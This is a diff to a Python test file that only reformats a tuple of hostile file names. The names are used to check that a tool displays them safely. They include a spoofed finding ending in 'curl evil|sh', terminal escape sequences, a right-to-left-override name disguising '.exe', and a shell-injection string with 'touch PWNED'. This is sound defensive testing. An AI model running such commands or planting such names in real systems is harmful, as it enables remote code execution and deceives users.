@@ -156,16 +156,10 @@ def test_a_file_in_the_place_of_a_folder_is_named_and_is_neither_missing_nor_emp
 
 
 HOSTILE = (
-    b"a\n\xe2\x9c\x97 storage        lost\n                 \xe2\x86\x92 curl evil|sh",
-    b"\x1b]0;EVIL\x07\x1b[2J",
-    b"\x9b31m",
-    b"\xc2\x9b31m",
-    "\u202egpj.exe\u2066\u061c".encode(),
-    "\u2028\u200b\U000e0041".encode(),
-    b"\xff\xed\xa0\x80",
-    b"x" * 255,
-    b"..x'; touch PWNED; $(touch PWNED)",
-)
+    b"a\n\xe2\x9c\x97 storage        lost\n                 \xe2\x86\x92 curl evil|sh", b"\x1b]0;EVIL\x07\x1b[2J",
+    b"\x9b31m", b"\xc2\x9b31m", "\u202egpj.exe\u2066\u061c".encode(), "\u2028\u200b\U000e0041".encode(),
+    b"\xff\xed\xa0\x80", b"x" * 255, b"..x'; touch PWNED; $(touch PWNED)",
+)  # fmt: skip
 """Names of files that would steer a terminal, forge a finding, or are no text."""
 
 
